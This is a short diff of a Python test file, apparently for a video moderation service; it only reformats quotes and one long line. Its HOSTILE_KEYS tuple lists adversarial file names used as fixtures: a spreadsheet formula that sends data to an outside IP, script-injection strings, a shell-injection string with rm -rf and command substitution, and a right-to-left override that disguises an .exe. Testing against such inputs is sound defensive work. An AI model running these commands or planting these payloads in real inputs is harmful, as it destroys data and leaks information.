@@ -17,12 +17,12 @@ BUCKET = "amzn-s3-demo-bucket"
 MADE_AT = 1_793_551_380.0
 
 HOSTILE_KEYS = (
-    "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"open\").mp4",
+    '=HYPERLINK("http://198.51.100.7/?"&A1,"open").mp4',
     "<script>document.title='owned'</script>.mp4",
     "</script><img src=x onerror=\"document.title='owned'\">.mp4",
     "<!--<script>.mp4",
     "javascript:document.title='owned'//.mp4",
-    "it's; rm -rf \"$HOME\" `id` $(id) !! \\ %2e%2e {a,b} ~ # & | * ?.mp4",
+    'it\'s; rm -rf "$HOME" `id` $(id) !! \\ %2e%2e {a,b} ~ # & | * ?.mp4',
     "line\nbreak\ttab\x1b[31mred\x07\x7f.mp4",
     "invoice\u202e4pm.exe",
     "zero\u200bwidth\ufeff\u00a0space.mp4",
@@ -139,4 +139,6 @@ def page_of(made, totals, **more):
 
 def with_segments(outcome, count):
     """Return a flagged video with exactly so many segments, one a second."""
-    return FlaggedVideo(outcome, tuple(Segment("Weapons", "Violence", 2, at, at + 500, 60 + at % 40, 1) for at in range(0, count * 1_000, 1_000)))
+    return FlaggedVideo(
+        outcome, tuple(Segment("Weapons", "Violence", 2, at, at + 500, 60 + at % 40, 1) for at in range(0, count * 1_000, 1_000))
+    )
